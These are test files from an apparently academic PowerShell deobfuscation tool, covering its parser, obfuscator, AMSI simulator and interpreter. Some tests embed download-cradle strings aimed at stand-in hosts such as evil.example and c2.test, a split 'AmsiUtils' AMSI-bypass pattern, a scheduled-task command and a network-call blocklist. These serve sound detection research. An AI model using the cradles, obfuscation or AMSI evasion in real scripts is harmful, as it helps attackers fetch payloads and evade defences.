TEST(Parser2, CommandElementArrayBinding) {
  // `cmd a, b` binds an array argument.
  auto sb = parse("Write-Host 'a', 'b'");
  const auto& pipe = first_pipeline(*sb);
  const auto& cmd = static_cast<const CommandAst&>(*pipe.elements[0]);
  ASSERT_EQ(cmd.elements.size(), 2u);
  EXPECT_EQ(cmd.elements[1]->kind(), NodeKind::ArrayLiteral);
}

TEST(Parser2, ParameterWithColonArgument) {
  auto sb = parse("Invoke-Thing -Name:'value'");
  const auto& pipe = first_pipeline(*sb);
  const auto& cmd = static_cast<const CommandAst&>(*pipe.elements[0]);
  const auto* p = static_cast<const CommandParameterAst*>(cmd.elements[1].get());
  EXPECT_EQ(p->name, "-Name");
  EXPECT_NE(p->argument, nullptr);
}

TEST(Parser2, Redirections) {
  EXPECT_TRUE(is_valid_syntax("Write-Host x > out.txt"));
  EXPECT_TRUE(is_valid_syntax("cmd.exe /c dir 2>&1"));
}

TEST(Parser2, DollarVariablesEverywhere) {
  EXPECT_TRUE(is_valid_syntax("${a b c} = 5"));
  EXPECT_TRUE(is_valid_syntax("$global:x = $env:TEMP"));
  EXPECT_TRUE(is_valid_syntax("$_.Length"));
}

TEST(Parser2, CaseStudyStringsStayIntact) {
  const std::string src = "Write-Host 'keeps ; semicolons | and # hashes'";
  auto sb = parse(src);
  const auto& pipe = first_pipeline(*sb);
  const auto& cmd = static_cast<const CommandAst&>(*pipe.elements[0]);
  const auto* s = static_cast<const StringConstantExpressionAst*>(
      cmd.elements[1].get());
  EXPECT_EQ(s->value, "keeps ; semicolons | and # hashes");
}

TEST(Parser2, DeepNestingDoesNotOverflow) {
  std::string deep = "'x'";
  for (int i = 0; i < 200; ++i) deep = "(" + deep + ")";
  EXPECT_TRUE(is_valid_syntax(deep));
}

TEST(Parser2, ExtentsNestProperly) {
  const std::string src =
      "$a = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("
      "'QQ=='))";
  auto sb = parse(src);
  sb->post_order([&](const Ast& node) {
    for (const Ast* child : node.children()) {
      EXPECT_GE(child->start(), node.start());
      EXPECT_LE(child->end(), node.end());
    }
  });
}

TEST(Parser2, SiblingsDoNotOverlap) {
  const std::string src = "function F($a, $b) { if ($a) { $a + $b } else { 0 } }";
  auto sb = parse(src);
  sb->post_order([&](const Ast& node) {
    std::size_t prev_end = node.start();
    for (const Ast* child : node.children()) {
      EXPECT_GE(child->start(), prev_end)
          << "overlap inside " << to_string(node.kind());
      prev_end = child->end();
    }
  });
}

TEST(Parser2, EmptyScript) {
  auto sb = parse("");
  EXPECT_TRUE(sb->named_blocks.front()->statements.empty());
  EXPECT_TRUE(is_valid_syntax("\n\n  \n"));
  EXPECT_TRUE(is_valid_syntax("# just a comment\n"));
}

TEST(Parser2, OperatorsAsCommandArguments) {
  // Barewords that merely look like operators stay arguments.
  EXPECT_TRUE(is_valid_syntax("cmd.exe /c echo hi"));
  EXPECT_TRUE(is_valid_syntax("schtasks /create /tn updater"));
}

TEST(Parser2, ExpandableStringsWithSubexpressions) {
  EXPECT_TRUE(is_valid_syntax("\"result: $(1 + 1) and $($x.Length)\""));
  EXPECT_TRUE(is_valid_syntax("\"nested quotes: $('a' + 'b')\""));
}

TEST(Parser2, TypeLiteralsWithNamespaces) {
  auto sb = parse("[System.Runtime.InteropServices.Marshal]::PtrToStringAuto($p)");
  const auto& pipe = first_pipeline(*sb);
  const auto* ce = static_cast<const CommandExpressionAst*>(pipe.elements[0].get());
  ASSERT_EQ(ce->expression->kind(), NodeKind::InvokeMemberExpression);
}

TEST(Parser2, GenericTypeLiterals) {
  EXPECT_TRUE(is_valid_syntax("[char[]]'abc'"));
  EXPECT_TRUE(is_valid_syntax("[byte[]](1,2,3)"));
}

}  // namespace
}  // namespace ps
