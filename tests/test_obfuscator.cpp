// Tests for the Invoke-Obfuscation-equivalent workload generator, including
// the central round-trip property: for every technique the paper's tool
// handles (Table II), deobfuscate(obfuscate(s)) recovers the original
// content — in all three placement positions the paper evaluates.

#include <gtest/gtest.h>

#include "core/deobfuscator.h"
#include "obfuscator/obfuscator.h"
#include "psast/parser.h"
#include "psinterp/interpreter.h"
#include "pslang/alias_table.h"

namespace ideobf {
namespace {

bool contains_ci(std::string_view haystack, std::string_view needle) {
  const std::string h = ps::to_lower(haystack);
  const std::string n = ps::to_lower(needle);
  return h.find(n) != std::string::npos;
}

TEST(Obfuscator, LevelsMatchTableII) {
  EXPECT_EQ(technique_level(Technique::Ticking), 1);
  EXPECT_EQ(technique_level(Technique::Alias), 1);
  EXPECT_EQ(technique_level(Technique::Concat), 2);
  EXPECT_EQ(technique_level(Technique::Reverse), 2);
  EXPECT_EQ(technique_level(Technique::Base64Encoding), 3);
  EXPECT_EQ(technique_level(Technique::SecureString), 3);
  EXPECT_EQ(technique_level(Technique::Compress), 3);
  EXPECT_EQ(all_techniques().size(), 19u);
}

TEST(Obfuscator, OutputIsValidSyntax) {
  Obfuscator obf(42);
  const char* script = "Write-Host 'hello world from a script'";
  for (Technique t : all_techniques()) {
    const std::string out = obf.apply(t, script);
    EXPECT_TRUE(ps::is_valid_syntax(out))
        << to_string(t) << " produced invalid syntax: " << out;
  }
}

TEST(Obfuscator, OutputActuallyChanges) {
  Obfuscator obf(7);
  const char* script =
      "Get-ChildItem 'C:\\temp'; $path = 'C:\\temp\\payload.ps1'";
  for (Technique t : all_techniques()) {
    const std::string out = obf.apply(t, script);
    EXPECT_NE(out, script) << to_string(t);
  }
}

TEST(Obfuscator, ObfuscatedLiteralEvaluatesBack) {
  Obfuscator obf(99);
  const std::string content = "https://evil.example/stage2.ps1";
  for (Technique t : all_techniques()) {
    if (t == Technique::WhitespaceEncoding) continue;  // script-level only
    if (technique_level(t) == 1) continue;             // token-level
    const std::string expr = obf.obfuscate_literal(t, content);
    ps::Interpreter interp;
    EXPECT_EQ(interp.evaluate_script(expr).to_display_string(), content)
        << to_string(t) << ": " << expr;
  }
}

TEST(Obfuscator, LiteralWithQuotesRoundTrips) {
  Obfuscator obf(5);
  const std::string content = "it's a 'quoted' string";
  for (Technique t : {Technique::Concat, Technique::Reorder, Technique::Replace,
                      Technique::Base64Encoding, Technique::Bxor,
                      Technique::SecureString, Technique::Compress}) {
    const std::string expr = obf.obfuscate_literal(t, content);
    ps::Interpreter interp;
    EXPECT_EQ(interp.evaluate_script(expr).to_display_string(), content)
        << to_string(t) << ": " << expr;
  }
}

TEST(Obfuscator, TickingInsertsTicks) {
  Obfuscator obf(3);
  const std::string out = obf.apply(Technique::Ticking, "New-Object Net.WebClient");
  EXPECT_NE(out.find('`'), std::string::npos);
}

TEST(Obfuscator, AliasSubstitutes) {
  Obfuscator obf(3);
  const std::string out =
      obf.apply(Technique::Alias, "Invoke-Expression 'x'; Get-ChildItem");
  EXPECT_TRUE(contains_ci(out, "iex"));
  EXPECT_FALSE(contains_ci(out, "Invoke-Expression"));
}

TEST(Obfuscator, RandomNameProducesRandomIdentifiers) {
  Obfuscator obf(11);
  const std::string out = obf.apply(
      Technique::RandomName, "$downloader = 'x'; Write-Host $downloader");
  EXPECT_FALSE(contains_ci(out, "$downloader"));
  EXPECT_TRUE(ps::is_valid_syntax(out));
}

TEST(Obfuscator, WhitespaceEncodingIsSelfDecoding) {
  // The sandbox can execute it (behavior preserved) even though static
  // deobfuscation cannot trace the loop (paper Table II).
  Obfuscator obf(8);
  const std::string out =
      obf.apply(Technique::WhitespaceEncoding, "Write-Output 'ws-ok'");
  ps::Interpreter interp;
  EXPECT_EQ(interp.evaluate_script(out).to_display_string(), "ws-ok") << out;
}

TEST(Obfuscator, SpecialCharWrapsWholeScript) {
  Obfuscator obf(8);
  const std::string out =
      obf.apply(Technique::SpecialCharEncoding, "Write-Output 'sc-ok'");
  ps::Interpreter interp;
  EXPECT_EQ(interp.evaluate_script(out).to_display_string(), "sc-ok") << out;
}

TEST(Obfuscator, WrapLayerStyles) {
  Obfuscator obf(21);
  ps::Interpreter interp;
  for (auto style : {Obfuscator::LayerStyle::IexArgument,
                     Obfuscator::LayerStyle::IexPipe,
                     Obfuscator::LayerStyle::EncodedCommand}) {
    const std::string out =
        obf.wrap_layer("Write-Output 'layered'", Technique::Base64Encoding, style);
    EXPECT_TRUE(ps::is_valid_syntax(out));
    EXPECT_EQ(interp.evaluate_script(out).to_display_string(), "layered") << out;
  }
}

// --------------------------- the Table II round-trip property -----------

struct AbilityCase {
  Technique technique;
  int position;  // 0 separate line, 1 assignment, 2 pipe
};

class RoundTrip : public ::testing::TestWithParam<AbilityCase> {};

TEST_P(RoundTrip, DeobfuscationRecoversContent) {
  const AbilityCase& c = GetParam();
  Obfuscator obf(1234 + static_cast<int>(c.technique) * 10 + c.position);

  const std::string marker = "hello-marker-9731";
  std::string piece;
  if (technique_level(c.technique) == 1 ||
      c.technique == Technique::WhitespaceEncoding ||
      c.technique == Technique::SpecialCharEncoding) {
    piece = obf.apply(c.technique, "Write-Host '" + marker + "'");
  } else {
    piece = "Write-Host " + obf.obfuscate_literal(c.technique, marker);
  }

  std::string script;
  switch (c.position) {
    case 0: script = piece; break;
    case 1: script = "$tmp = " + piece; break;
    default: script = piece + " | Out-Null"; break;
  }
  // Whole-script wrappers cannot be embedded in assignment/pipe positions.
  if ((c.technique == Technique::WhitespaceEncoding ||
       c.technique == Technique::SpecialCharEncoding) &&
      c.position != 0) {
    GTEST_SKIP();
  }

  ASSERT_TRUE(ps::is_valid_syntax(script)) << script;
  InvokeDeobfuscator deobf;
  const std::string out = deobf.deobfuscate(script);
  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;

  if (c.technique == Technique::WhitespaceEncoding) {
    // The paper's tool cannot recover this one (Table II); ours models the
    // same limitation.
    EXPECT_FALSE(contains_ci(out, marker)) << out;
    return;
  }
  EXPECT_TRUE(contains_ci(out, marker))
      << to_string(c.technique) << " pos " << c.position << "\nscript: " << script
      << "\nout: " << out;
}

std::vector<AbilityCase> ability_cases() {
  std::vector<AbilityCase> cases;
  for (Technique t : all_techniques()) {
    for (int pos = 0; pos < 3; ++pos) cases.push_back({t, pos});
  }
  return cases;
}

INSTANTIATE_TEST_SUITE_P(
    AllTechniquesAllPositions, RoundTrip, ::testing::ValuesIn(ability_cases()),
    [](const ::testing::TestParamInfo<AbilityCase>& info) {
      return std::string(to_string(info.param.technique)) + "_pos" +
             std::to_string(info.param.position);
    });

TEST(Obfuscator, Deterministic) {
  Obfuscator a(77), b(77);
  const char* script = "Write-Host 'abcdefgh'";
  for (Technique t : all_techniques()) {
    EXPECT_EQ(a.apply(t, script), b.apply(t, script)) << to_string(t);
  }
}

}  // namespace
}  // namespace ideobf
