// Tests for the AMSI simulator (paper section V-B) and the function-tracing
// extension (the paper's section V-C limitation, implemented behind a flag).

#include <gtest/gtest.h>

#include "core/deobfuscator.h"
#include "obfuscator/obfuscator.h"
#include "sandbox/amsi.h"

namespace ideobf {
namespace {

TEST(Amsi, CapturesTopLevelBuffer) {
  const AmsiCapture cap = amsi_scan("Write-Host hi");
  ASSERT_GE(cap.buffers.size(), 1u);
  EXPECT_EQ(cap.buffers[0], "Write-Host hi");
  EXPECT_TRUE(cap.executed_ok);
}

TEST(Amsi, CapturesInvokedLayers) {
  const AmsiCapture cap = amsi_scan("iex ('Write-'+'Host secret-cmd')");
  EXPECT_TRUE(cap.sees("secret-cmd"));
  EXPECT_GE(cap.buffers.size(), 2u);
  EXPECT_EQ(cap.final_buffer(), "Write-Host secret-cmd");
}

TEST(Amsi, CapturesEncodedCommandLayers) {
  Obfuscator obf(1);
  const std::string wrapped = obf.wrap_layer(
      "Write-Host amsi-enc-check", Technique::Base64Encoding,
      Obfuscator::LayerStyle::EncodedCommand);
  const AmsiCapture cap = amsi_scan(wrapped);
  EXPECT_TRUE(cap.sees("amsi-enc-check")) << wrapped;
}

TEST(Amsi, MissesLatentPayloads) {
  // The paper's bypass: a string that is deobfuscated in memory but never
  // supplied to the engine is invisible to AMSI.
  const AmsiCapture cap = amsi_scan("$u = 'Amsi'+'Utils'\nWrite-Host $u.Length");
  EXPECT_FALSE(cap.sees("AmsiUtils"));
  // ... but the host output DID use it, so the bypass is real, not a bug.
  EXPECT_TRUE(cap.executed_ok);
}

TEST(Amsi, OursSeesLatentPayloads) {
  InvokeDeobfuscator deobf;
  const std::string out =
      deobf.deobfuscate("$u = 'Amsi'+'Utils'\nWrite-Host $u.Length");
  EXPECT_NE(out.find("AmsiUtils"), std::string::npos) << out;
}

TEST(Amsi, HandlesBrokenScripts) {
  const AmsiCapture cap = amsi_scan("this is ( not a script");
  EXPECT_FALSE(cap.executed_ok);
}

// ---------------------------------------------------------------- V-C

TEST(FunctionTracing, OffByDefaultMatchesPaper) {
  // The paper cannot follow function-wrapped recovery chains (section V-C);
  // with the default options neither do we.
  const std::string src =
      "function Decode($s) { return ($s.Replace('Z','t')) }\n"
      "Write-Host (Decode 'hZZp://x.Zest/a.ps1')";
  InvokeDeobfuscator deobf;
  const std::string out = deobf.deobfuscate(src);
  EXPECT_EQ(out.find("http://x.test"), std::string::npos) << out;
}

TEST(FunctionTracing, FlagEnablesFunctionChains) {
  const std::string src =
      "function Decode($s) { return ($s.Replace('Z','t')) }\n"
      "Write-Host (Decode 'hZZp://x.Zest/a.ps1')";
  Options opts;
  opts.recovery.trace_functions = true;
  InvokeDeobfuscator deobf(opts);
  const std::string out = deobf.deobfuscate(src);
  EXPECT_NE(out.find("http://x.test/a.ps1"), std::string::npos) << out;
}

TEST(FunctionTracing, NestedFunctionCalls) {
  const std::string src =
      "function Inner($s) { return ($s + '.ps1') }\n"
      "function Outer($s) { return (Inner ($s + '/stage')) }\n"
      "$target = Outer 'http://c2.test'\n"
      "Write-Host $target";
  Options opts;
  opts.recovery.trace_functions = true;
  InvokeDeobfuscator deobf(opts);
  const std::string out = deobf.deobfuscate(src);
  EXPECT_NE(out.find("http://c2.test/stage.ps1"), std::string::npos) << out;
}

TEST(FunctionTracing, BlocklistStillApplies) {
  const std::string src =
      "function Fetch($u) { return ((New-Object Net.WebClient)."
      "DownloadString($u)) }\n"
      "Write-Host (Fetch 'http://evil.test/x')";
  Options opts;
  opts.recovery.trace_functions = true;
  InvokeDeobfuscator deobf(opts);
  const std::string out = deobf.deobfuscate(src);
  // The network call is blocklisted: the piece must be kept, not executed.
  EXPECT_NE(out.find("Fetch"), std::string::npos) << out;
  EXPECT_EQ(out.find("payload:"), std::string::npos) << out;
}

TEST(FunctionTracing, ConditionallyDefinedFunctionsAreNotTraced) {
  const std::string src =
      "if ($true) { function Decode($s) { return ($s + 'x') } }\n"
      "Write-Host (Decode 'marker-')";
  Options opts;
  opts.recovery.trace_functions = true;
  InvokeDeobfuscator deobf(opts);
  const std::string out = deobf.deobfuscate(src);
  EXPECT_EQ(out.find("'marker-x'"), std::string::npos) << out;
}

}  // namespace
}  // namespace ideobf
