// Operator-precedence contract tests: pin the grammar decisions the
// recovery engine relies on (documented in DESIGN.md; deviations from the
// full about_Operator_Precedence table are deliberate and noted).

#include <gtest/gtest.h>

#include "psinterp/interpreter.h"

namespace ps {
namespace {

Value run(std::string_view script) {
  Interpreter interp;
  return interp.evaluate_script(script);
}

std::string run_str(std::string_view script) { return run(script).to_display_string(); }

TEST(Precedence, MultiplicationOverAddition) {
  EXPECT_EQ(run("2 + 3 * 4").get_int(), 14);
  EXPECT_EQ(run_str("'a' + 'b' * 2"), "abb");
}

TEST(Precedence, AdditionOverComparison) {
  EXPECT_TRUE(run("2 + 2 -eq 4").get_bool());
  EXPECT_EQ(run_str("'ab' + 'c' -replace 'b', 'x'"), "axc");
}

TEST(Precedence, ComparisonOverBitwise) {
  // (1 -eq 1) -band (1 -eq 1) => 1 -band 1? Booleans coerce to ints.
  EXPECT_EQ(run("(1 -eq 1) -band 1").get_int(), 1);
}

TEST(Precedence, BitwiseOverLogical) {
  EXPECT_TRUE(run("1 -band 1 -and $true").get_bool());
}

TEST(Precedence, CommaVersusAddition) {
  // Documented deviation from about_Operator_Precedence: our comma binds
  // *looser* than `+`, so `1,2 + 3` is `1,(2+3)`. Wild obfuscation never
  // relies on the difference; the `-f`/`-join` interactions that matter are
  // pinned below.
  EXPECT_EQ(run_str("(1,2 + 3) -join ','"), "1,5");
  EXPECT_EQ(run_str("((1,2) + 3) -join ','"), "1,2,3");
}

TEST(Precedence, CommaBindsFormatArguments) {
  EXPECT_EQ(run_str("\"{0}|{1}\" -f 'a','b'"), "a|b");
}

TEST(Precedence, RangeOverFormat) {
  // -f of a range-produced array.
  EXPECT_EQ(run_str("\"{0}{1}{2}\" -f (1..3)"), "123");
}

TEST(Precedence, FormatOverComparison) {
  // ("{0}" -f 'a') -eq 'a'
  EXPECT_TRUE(run("\"{0}\" -f 'a' -eq 'a'").get_bool());
}

TEST(Precedence, UnaryBindsTighterThanBinary) {
  EXPECT_EQ(run("-2 + 5").get_int(), 3);
  EXPECT_FALSE(run("-not $true -and $true").get_bool());
  EXPECT_EQ(run("-join ('a','b') + 'c'").to_display_string(), "abc");
}

TEST(Precedence, CastBindsTighterThanBinary) {
  EXPECT_EQ(run("[int]'2' + 3").get_int(), 5);
  EXPECT_EQ(run_str("[string][char]104 + 'i'"), "hi");
}

TEST(Precedence, PostfixBindsTighterThanUnary) {
  EXPECT_EQ(run_str("-join 'ba'[1..0]"), "ab");
  EXPECT_EQ(run("-not 'abc'.StartsWith('a')").get_bool(), false);
}

TEST(Precedence, IndexOverMember) {
  EXPECT_EQ(run("('abc','de')[1].Length").get_int(), 2);
}

TEST(Precedence, ChainedComparisonsLeftAssociative) {
  // ('a' -split 'x') -join ',' style chains evaluate left to right.
  EXPECT_EQ(run_str("'a-b-c' -split '-' -join '+'"), "a+b+c");
  EXPECT_EQ(run_str("'a~b}c' -split '~' -split '}' -join ','"), "a,b,c");
}

TEST(Precedence, RangeOfParenExpressions) {
  EXPECT_EQ(run_str("(('ab'.Length)..0) -join ','"), "2,1,0");
}

TEST(Precedence, LogicalOperatorsShareOneLevel) {
  // As in PowerShell, -and and -or sit on the same precedence level and
  // associate left: ($true -or $false) -and $false.
  EXPECT_FALSE(run("$true -or $false -and $false").get_bool());
  EXPECT_TRUE(run("$true -or ($false -and $false)").get_bool());
}

TEST(Precedence, AssignmentConsumesWholePipeline) {
  EXPECT_EQ(run_str("$x = 'a','b' -join '+'; $x"), "a+b");
  EXPECT_EQ(run_str("$y = 1..3 | % { $_ * 2 } | Select-Object -First 1; $y"),
            "2");
}

}  // namespace
}  // namespace ps
