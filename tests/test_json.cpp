// Tests for the minimal JSON emitter behind the CLI's --json output.

#include <gtest/gtest.h>

#include "analysis/json_writer.h"

namespace ideobf {
namespace {

TEST(Json, QuoteEscaping) {
  EXPECT_EQ(json_quote("plain"), "\"plain\"");
  EXPECT_EQ(json_quote("a\"b"), "\"a\\\"b\"");
  EXPECT_EQ(json_quote("back\\slash"), "\"back\\\\slash\"");
  EXPECT_EQ(json_quote("line\nbreak"), "\"line\\nbreak\"");
  EXPECT_EQ(json_quote("tab\there"), "\"tab\\there\"");
  EXPECT_EQ(json_quote(std::string(1, '\x01')), "\"\\u0001\"");
  EXPECT_EQ(json_quote(""), "\"\"");
}

TEST(Json, FlatObject) {
  JsonWriter w;
  w.begin_object().field("a", 1).field("b", "x").field("c", true).end_object();
  EXPECT_EQ(w.str(), R"({"a":1,"b":"x","c":true})");
}

TEST(Json, NestedStructures) {
  JsonWriter w;
  w.begin_object();
  w.begin_array("items");
  w.value("one");
  w.value(2);
  w.begin_object().field("k", "v").end_object();
  w.end_array();
  w.field("done", true);
  w.end_object();
  EXPECT_EQ(w.str(), R"({"items":["one",2,{"k":"v"}],"done":true})");
}

TEST(Json, EmptyContainers) {
  JsonWriter w;
  w.begin_object();
  w.begin_array("empty").end_array();
  w.end_object();
  EXPECT_EQ(w.str(), R"({"empty":[]})");
}

TEST(Json, TopLevelArray) {
  JsonWriter w;
  w.begin_array().value(1).value(2).value(3).end_array();
  EXPECT_EQ(w.str(), "[1,2,3]");
}

TEST(Json, Doubles) {
  JsonWriter w;
  w.begin_array().value(1.5).value(0.25).end_array();
  EXPECT_EQ(w.str(), "[1.5,0.25]");
}

TEST(Json, KeysAreEscaped) {
  JsonWriter w;
  w.begin_object().field("we\"ird", 1).end_object();
  EXPECT_EQ(w.str(), R"({"we\"ird":1})");
}

}  // namespace
}  // namespace ideobf
