// Dedicated reformat battery: indentation shapes, separators, and content
// that must survive reprinting byte-for-byte.

#include <gtest/gtest.h>

#include "core/reformat.h"
#include "psast/parser.h"

namespace ideobf {
namespace {

TEST(Reformat2, NestedBlocksIndentStepwise) {
  const std::string out = reformat_pass(
      "if ($a) { if ($b) { Write-Host deep } }");
  EXPECT_NE(out.find("\n    if ($b) {"), std::string::npos) << out;
  EXPECT_NE(out.find("\n        Write-Host deep"), std::string::npos) << out;
}

TEST(Reformat2, ClosingBracesDedent) {
  const std::string out = reformat_pass("while ($x) { foo }");
  // The closing brace returns to column zero.
  EXPECT_NE(out.find("\n}"), std::string::npos) << out;
}

TEST(Reformat2, CommentsKept) {
  const std::string out = reformat_pass("# header comment\nWrite-Host hi");
  EXPECT_NE(out.find("# header comment"), std::string::npos);
  EXPECT_TRUE(ps::is_valid_syntax(out));
}

TEST(Reformat2, HereStringsSurviveVerbatim) {
  const std::string src = "$t = @'\nkeep   this    spacing\n'@";
  const std::string out = reformat_pass(src);
  EXPECT_NE(out.find("keep   this    spacing"), std::string::npos) << out;
  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;
}

TEST(Reformat2, StringsWithOperatorsUntouched) {
  const std::string out =
      reformat_pass("Write-Host 'a;b|c{d}e   f'");
  EXPECT_NE(out.find("'a;b|c{d}e   f'"), std::string::npos) << out;
}

TEST(Reformat2, SemicolonInsideForStays) {
  const std::string out = reformat_pass("for ($i = 0; $i -lt 3; $i++) { $i }");
  EXPECT_NE(out.find("; $i -lt 3;"), std::string::npos) << out;
  EXPECT_TRUE(ps::is_valid_syntax(out));
}

TEST(Reformat2, PipelinesStayOnOneLine) {
  const std::string out = reformat_pass("1,2,3 |  %  {  $_ }   | Out-Null");
  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;
  // The stages stay connected by single spaces around the pipes.
  EXPECT_NE(out.find("} | Out-Null"), std::string::npos) << out;
}

TEST(Reformat2, CollapsesBlankLineRuns) {
  const std::string out = reformat_pass("$a = 1\n\n\n\n$b = 2");
  EXPECT_EQ(out.find("\n\n\n"), std::string::npos) << out;
}

TEST(Reformat2, IdempotentOnItsOwnOutput) {
  const char* scripts[] = {
      "if ($a) { if ($b) { 'x' } else { 'y' } }",
      "function f { param($p) $p * 2 }",
      "$h = @{ a = 1; b = 2 }",
      "try { 1 } catch { 2 } finally { 3 }",
  };
  for (const char* s : scripts) {
    const std::string once = reformat_pass(s);
    EXPECT_EQ(reformat_pass(once), once) << s;
  }
}

TEST(Reformat2, MethodChainsStayAttached) {
  const std::string out =
      reformat_pass("('ab').Replace('a','b').ToUpper().Trim()");
  EXPECT_NE(out.find(".Replace('a','b').ToUpper().Trim()"), std::string::npos)
      << out;
}

TEST(Reformat2, EmptyInput) {
  EXPECT_EQ(reformat_pass(""), "\n");
  EXPECT_TRUE(ps::is_valid_syntax(reformat_pass("   \n  \n")));
}

}  // namespace
}  // namespace ideobf
