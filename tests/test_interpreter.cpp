// Tests for the mini PowerShell interpreter — the ScriptBlock.Invoke()
// substrate. Each case mirrors a construct that wild obfuscated scripts use.

#include <gtest/gtest.h>

#include "psinterp/aes.h"
#include "psinterp/deflate.h"
#include "psinterp/interpreter.h"

namespace ps {
namespace {

Value run(std::string_view script) {
  Interpreter interp;
  return interp.evaluate_script(script);
}

std::string run_str(std::string_view script) { return run(script).to_display_string(); }

// ------------------------------------------------------------ arithmetic

TEST(Interp, StringConcat) {
  EXPECT_EQ(run_str("'he' + 'llo'"), "hello");
  EXPECT_EQ(run_str("'a'+'b'+'c'"), "abc");
}

TEST(Interp, NumberArithmetic) {
  EXPECT_EQ(run("1 + 2").get_int(), 3);
  EXPECT_EQ(run("10 - 3").get_int(), 7);
  EXPECT_EQ(run("6 * 7").get_int(), 42);
  EXPECT_EQ(run("7 / 2").get_double(), 3.5);
  EXPECT_EQ(run("6 / 2").get_int(), 3);
  EXPECT_EQ(run("7 % 3").get_int(), 1);
}

TEST(Interp, StringRepeat) { EXPECT_EQ(run_str("'ab' * 3"), "ababab"); }

TEST(Interp, MixedConcat) {
  EXPECT_EQ(run_str("'n' + 1"), "n1");
  EXPECT_EQ(run("1 + '2'").get_int(), 3);
}

// --------------------------------------------------------------- strings

TEST(Interp, FormatOperator) {
  EXPECT_EQ(run_str("\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'"),
            "write-host hello");
  EXPECT_EQ(run_str("\"{0:X2}\" -f 75"), "4B");
  EXPECT_EQ(run_str("\"{0,5}\" -f 'ab'"), "   ab");
  EXPECT_EQ(run_str("\"{0,-4}|\" -f 'ab'"), "ab  |");
}

TEST(Interp, Listing3FormatReorder) {
  const char* src =
      "((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}{3}{2}{11}{4}\" -f "
      "'e','Uht','om/malwar','t.c','.txtjYU)','://','et','nloadst','ct "
      "N','tps','(jY','e','.WebCl','(New-Obj','ring','tes','ient).dow'))."
      "RepLACe('jYU',[STRiNg][CHar]39)";
  EXPECT_EQ(run_str(src),
            "(New-Object Net.WebClient).downloadstring('https://test.com/"
            "malware.txt')");
}

TEST(Interp, ReplaceMethodIsLiteral) {
  EXPECT_EQ(run_str("'a.b.c'.Replace('.', '-')"), "a-b-c");
  EXPECT_EQ(run_str("'xyx'.Replace('x','z')"), "zyz");
}

TEST(Interp, ReplaceOperatorIsRegex) {
  EXPECT_EQ(run_str("'a1b2' -replace '\\d', ''"), "ab");
  EXPECT_EQ(run_str("'HELLO' -replace 'hello', 'x'"), "x");   // case-insensitive
  EXPECT_EQ(run_str("'HELLO' -creplace 'hello', 'x'"), "HELLO");
}

TEST(Interp, SplitJoin) {
  EXPECT_EQ(run_str("('a,b,c' -split ',') -join '-'"), "a-b-c");
  EXPECT_EQ(run_str("-join ('a','b','c')"), "abc");
  EXPECT_EQ(run_str("('x1y2z' -split '\\d') -join ''"), "xyz");
}

TEST(Interp, DotNetSplitOnChars) {
  EXPECT_EQ(run_str("('a~b}c' .Split('~}')) -join ','"), "a,b,c");
}

TEST(Interp, StringMethods) {
  EXPECT_EQ(run_str("'HeLLo'.ToLower()"), "hello");
  EXPECT_EQ(run_str("'HeLLo'.ToUpper()"), "HELLO");
  EXPECT_EQ(run_str("'hello'.Substring(1,3)"), "ell");
  EXPECT_EQ(run_str("'  hi  '.Trim()"), "hi");
  EXPECT_EQ(run("'abc'.Length").get_int(), 3);
  EXPECT_EQ(run("'-encodedcommand'.StartsWith('-enc')").get_bool(), true);
  EXPECT_EQ(run("'abc'.Contains('b')").get_bool(), true);
  EXPECT_EQ(run("'abcdef'.IndexOf('cd')").get_int(), 2);
}

TEST(Interp, StringIndexing) {
  EXPECT_EQ(run_str("'hello'[1]"), "e");
  EXPECT_EQ(run_str("'hello'[-1]"), "o");
  EXPECT_EQ(run_str("'hello'[4,1,2] -join ''"), "oel");
}

TEST(Interp, StringReverseViaRange) {
  EXPECT_EQ(run_str("-join 'dcba'[-1..-4]"), "abcd");
  EXPECT_EQ(run_str("$s = 'txt.x'; -join $s[($s.Length-1)..0]"), "x.txt");
}

// ----------------------------------------------------------- interpolation

TEST(Interp, ExpandableStrings) {
  EXPECT_EQ(run_str("$x = 'world'; \"hello $x\""), "hello world");
  EXPECT_EQ(run_str("\"two: $(1+1)\""), "two: 2");
  EXPECT_EQ(run_str("$a=1; \"`$a is $a\""), "$a is 1");
  EXPECT_EQ(run_str("\"tab`tend\""), "tab\tend");
}

// -------------------------------------------------------------- variables

TEST(Interp, Assignment) {
  EXPECT_EQ(run_str("$a = 'x'; $b = $a + 'y'; $b"), "xy");
  EXPECT_EQ(run("$i = 1; $i += 5; $i").get_int(), 6);
}

TEST(Interp, EnvironmentVariables) {
  EXPECT_EQ(run_str("$env:ComSpec"), "C:\\Windows\\system32\\cmd.exe");
  EXPECT_EQ(run_str("$env:comspec[4,24,25] -join ''"), "iex");
}

TEST(Interp, AutomaticVariables) {
  EXPECT_EQ(run_str("$pshome[4] + $pshome[30] + 'x'"), "iex");
  EXPECT_EQ(run_str("$shellid[1] + $shellid[13] + 'x'"), "iex");
  EXPECT_EQ(run_str("$verbosepreference.ToString()[1,3] + 'x' -join ''"), "iex");
  EXPECT_EQ(run("$true").get_bool(), true);
  EXPECT_TRUE(run("$null").is_null());
}

TEST(Interp, StrictVariablesThrow) {
  InterpreterOptions opts;
  opts.strict_variables = true;
  Interpreter interp(opts);
  EXPECT_THROW(interp.evaluate_script("$undefined_thing + 1"), EvalError);
}

TEST(Interp, LenientVariablesAreNull) {
  EXPECT_TRUE(run("$undefined_thing").is_null());
}

TEST(Interp, PreseededVariable) {
  Interpreter interp;
  interp.set_variable("url", Value("https://test.com/a.ps1"));
  EXPECT_EQ(interp.evaluate_script("$url").to_display_string(),
            "https://test.com/a.ps1");
}

// ------------------------------------------------------------------ casts

TEST(Interp, CharCast) {
  EXPECT_EQ(run_str("[char]105 + [char]101 + [char]120"), "iex");
  EXPECT_EQ(run_str("[STRiNg][CHar]39"), "'");
  EXPECT_EQ(run_str("[char]0x69"), "i");
}

TEST(Interp, CharArithmetic) {
  // A char on the LHS of + with a number is numeric (as in real PowerShell).
  EXPECT_EQ(run("[char]65 + 1").get_int(), 66);
}

TEST(Interp, IntCasts) {
  EXPECT_EQ(run("[int]'42'").get_int(), 42);
  EXPECT_EQ(run("[byte]200").get_int(), 200);
  EXPECT_THROW(run("[byte]300"), EvalError);
}

